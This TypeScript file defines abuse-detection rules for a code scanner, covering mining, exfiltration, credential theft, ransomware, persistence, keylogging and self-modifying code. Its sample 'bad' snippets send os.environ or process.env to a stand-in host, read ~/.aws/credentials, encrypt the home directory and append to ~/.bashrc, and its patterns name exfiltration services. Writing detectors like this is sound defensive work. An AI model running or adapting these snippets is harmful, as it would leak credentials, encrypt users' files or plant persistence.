import { RULE_LANGUAGES, type Rule } from '../rule.ts';
import { ASKS } from './kinds.ts';

const BOTH = ['python', 'javascript'] as const;
const PY_SENDS = [
  '{requests,httpx}.{get,post,put,request}',
  'urllib.request.{urlopen,Request}',
  'urllib.urlopen',
  'socket.socket().{send,sendall,sendto,connect}',
  'socket.create_connection().{send,sendall}',
  '*.{sendall,sendto,sendmail}',
  'http.client.{HTTPConnection,HTTPSConnection}().request',
  'aiohttp.ClientSession().{get,post}',
];
const JS_SENDS = [
  '{fetch,axios,got,node-fetch,request,navigator.sendBeacon}',
  '{axios,got,needle,superagent,request}.{get,post,put}',
  '{http,https}.{get,request}',
  '{http,https}.request().{write,end}',
  '{net,tls}.{connect,createConnection}().{write,end}',
  'net.Socket().{write,end}',
  'WebSocket().send',
  'dns.{lookup,resolve}',
];

const JS_WRITES = ['fs', 'fs.promises'].map(
  (fs) =>
    `${fs}.{writeFile,writeFileSync,appendFile,appendFileSync,createWriteStream,copyFile,copyFileSync,rename,renameSync,symlink,symlinkSync}`,
);

/** What is run at every start or login. */
export const PERSISTENT =
  /(?:^|[/\\])\.(?:bashrc|zshrc|bash_profile|bash_login|zprofile|profile|xprofile|xinitrc)$|(?:^|[/\\\0])authorized_keys|\bLaunch(?:Agents|Daemons)\b|CurrentVersion\\{1,2}Run|^\/etc\/(?:cron|systemd|init\.d|rc\.local|profile\.d|ld\.so\.preload)|\/var\/spool\/cron|Start Menu\\{1,2}Programs\\{1,2}Startup|\.config\/autostart|\bcrontab\s+-|\bsystemctl\s+enable\b|\bschtasks\s+\/create/i;
/** As a whole, or with parts that are put in. */
const NAMES_PERSISTENT = [{ matches: PERSISTENT }, { shape: PERSISTENT }];

export const ABUSE: readonly Rule[] = [
  {
    id: 'mining',
    languages: RULE_LANGUAGES,
    severity: 'critical',
    confidence: 'high',
    category: 'abuse',
    cwe: 506,
    message: 'a text that belongs to mining: {}',
    why: 'It uses the machine to earn somebody else money.',
    remedy: 'Remove it.',
    match: {
      text: /stratum\+(?:tcp|ssl|tls):\/\/|\bxmrig\b|\bcoinhive\b|\bcryptonight\b|\bminerd\b|\bmoneroocean\b|\bminexmr\b|\bnanopool\.org|\bsupportxmr\b|\bethermine\b|\b2miners\.com|\bmining\.(?:subscribe|authorize|submit)\b|\brandomx\b/i,
    },
    bad: 'pool = "stratum+tcp://pool.example:3333"',
    good: 'pool = "thread pool"',
  },
  {
    id: 'py-exfiltration',
    languages: ['python'],
    severity: 'critical',
    confidence: 'medium',
    category: 'abuse',
    cwe: 200,
    message: '{} sends the environment or a sensitive file away',
    why: 'Credentials leave the machine.',
    remedy: 'Remove it.',
    match: { call: PY_SENDS, when: [{ arg: 'any', is: 'secret' }] },
    bad: 'import os, requests\nrequests.post("http://x.example", data=dict(os.environ), timeout=1)',
    good: 'import requests\nrequests.post("http://x.example", data={"a": 1}, timeout=1)',
  },
  {
    id: 'js-exfiltration',
    languages: ['javascript'],
    severity: 'critical',
    confidence: 'medium',
    category: 'abuse',
    cwe: 200,
    message: '{} sends the environment or a sensitive file away',
    why: 'Credentials leave the machine.',
    remedy: 'Remove it.',
    match: [
      { assign: /^(?:src|href|action)$/, when: [{ arg: 'value', is: 'secret' }] },
      { call: JS_SENDS, when: [{ arg: ['body', 'data', 'json', 1, 0], is: 'secret' }] },
      {
        call: ['dns.{lookup,resolve,resolve4,resolveTxt}', 'dns.promises.{lookup,resolve}'],
        when: [
          { arg: 0, is: 'external' },
          { arg: 0, is: 'built' },
        ],
      },
    ],
    bad: "fetch('http://x.example', { method: 'POST', body: JSON.stringify(process.env) });",
    good: "fetch('http://x.example', { method: 'POST', body: 'a' });",
  },
  {
    id: 'credentials-and-network',
    languages: BOTH,
    severity: 'high',
    confidence: 'high',
    category: 'abuse',
    cwe: 200,
    message: 'a program that names a file or service of credentials talks to somebody, by {}',
    why: 'What opens other doors may leave the machine.',
    remedy: 'Give the program the one thing that it needs, as input.',
    match: {
      together: [
        ['credential-file', 'cloud-metadata'],
        [
          ...['py-request', 'py-open-url', 'py-connect', 'py-request-without-timeout'],
          ...['js-request', 'js-socket'],
        ],
      ],
    },
    bad: 'import os, requests\nkeys = open(os.path.expanduser("~/.aws/credentials"))\nrequests.post(url, timeout=1)',
    good: 'import requests\nrequests.post(url, timeout=1)',
  },
  {
    id: 'exfiltration-address',
    languages: RULE_LANGUAGES,
    severity: 'medium',
    confidence: 'medium',
    category: 'abuse',
    cwe: 200,
    message: 'an address that stolen data is often sent to: {}',
    why: 'Such services take whatever is sent, from anybody.',
    remedy: 'Send data to a service of your own.',
    match: {
      text: /(?:webhook\.site|requestbin|pipedream\.net|discord(?:app)?\.com\/api\/webhooks\/|api\.telegram\.org\/bot|pastebin\.com\/(?:raw|api)|transfer\.sh|\.ngrok(?:-free)?\.(?:io|app)|burpcollaborator|\.oast(?:ify)?\.|interact\.sh)/i,
    },
    bad: 'url = "https://webhook.site/abc"',
    good: 'url = "https://example.org/abc"',
  },
  {
    id: 'ransom',
    languages: BOTH,
    severity: 'critical',
    confidence: 'medium',
    category: 'abuse',
    cwe: 506,
    message: "the user's files are visited and encrypted",
    why: 'It is how files are held to ransom.',
    remedy: 'Encrypt the files that are named, and no others.',
    match: [
      { together: [['walk-root'], ['encryption']] },
      { together: [['home-directory'], ['encryption'], ['js-path-from-outside']] },
    ],
    bad: 'import os\nfrom cryptography.fernet import Fernet\nfor d, _, names in os.walk(os.path.expanduser("~")):\n    for n in names: Fernet(key).encrypt(read(d, n))',
    good: 'from cryptography.fernet import Fernet\nprint(Fernet(key).encrypt(b"x"))',
  },
  {
    id: 'persistence',
    languages: RULE_LANGUAGES.filter((language) => language !== 'bash'),
    severity: 'medium',
    confidence: 'high',
    category: 'abuse',
    cwe: 506,
    message: '{} is run at every start or login',
    why: 'What is written there stays on the machine and runs again.',
    remedy: 'Let an installer do it, where the user sees it.',
    match: [
      { text: PERSISTENT, notFor: ASKS },
      { built: PERSISTENT, notFor: ASKS },
    ],
    bad: 'import os\nopen(os.path.expanduser("~/.bashrc"), "a")',
    good: 'open("bashrc.txt", "a")',
  },
  {
    id: 'persistence-written',
    languages: BOTH,
    severity: 'high',
    confidence: 'high',
    category: 'abuse',
    cwe: 506,
    message: '{} writes what is run at every start or login',
    why: 'What is written there stays on the machine and runs again.',
    remedy: 'Let an installer do it, where the user sees it.',
    match: [
      {
        call: ['open', 'io.open', 'codecs.open'],
        when: [
          { arg: [0, 'file'], is: NAMES_PERSISTENT },
          { arg: [1, 'mode'], is: { matches: /[wax+]/ } },
        ],
      },
      {
        call: ['*.{write_text,write_bytes,symlink_to,hardlink_to}'],
        when: [{ arg: 'receiver', is: NAMES_PERSISTENT }],
      },
      {
        call: ['shutil.{copy,copy2,copyfile,move}', 'os.{rename,replace,symlink,link}', ...JS_WRITES],
        when: [{ arg: 'any', is: NAMES_PERSISTENT }],
      },
    ],
    bad: 'import os\nopen(os.path.expanduser("~/.bashrc"), "a").write(line)',
    good: 'import os\nopen(os.path.expanduser("~/.bashrc")).read()',
  },
  {
    id: 'key-logging',
    languages: ['python'],
    severity: 'high',
    confidence: 'high',
    category: 'abuse',
    cwe: 506,
    message: '{} records the keyboard, the screen or the clipboard',
    why: 'It is what spies do.',
    remedy: 'Remove it.',
    match: {
      call: [
        'pynput.keyboard.Listener',
        'pynput.mouse.Listener',
        'keyboard.{on_press,hook,record,on_release}',
        'pyautogui.screenshot',
        'PIL.ImageGrab.grab',
        'pyperclip.paste',
        'mss.mss',
      ],
    },
    bad: 'from pynput import keyboard\nkeyboard.Listener(on_press=f)',
    good: 'key = input()',
  },
  {
    id: 'self-modifying',
    languages: ['python', 'javascript'],
    severity: 'medium',
    confidence: 'medium',
    category: 'abuse',
    cwe: 506,
    message: '{} writes to the program itself',
    why: 'What runs the next time is not what was read.',
    remedy: 'Write to a file of data.',
    match: [
      {
        call: ['open', 'io.open', 'codecs.open'],
        when: [
          { arg: 0, is: { named: ['__file__', 'sys.argv.0'] } },
          { arg: [1, 'mode'], is: { matches: /[wa+]/ } },
        ],
      },
      {
        call: [
          'fs.{writeFile,writeFileSync,appendFile,appendFileSync}',
          'fs.promises.{writeFile,appendFile}',
        ],
        when: [{ arg: 0, is: { named: ['__filename', 'process.argv.1'] } }],
      },
    ],
    bad: 'open(__file__, "a").write("x = 2")',
    good: 'print(open(__file__).read())',
  },
];
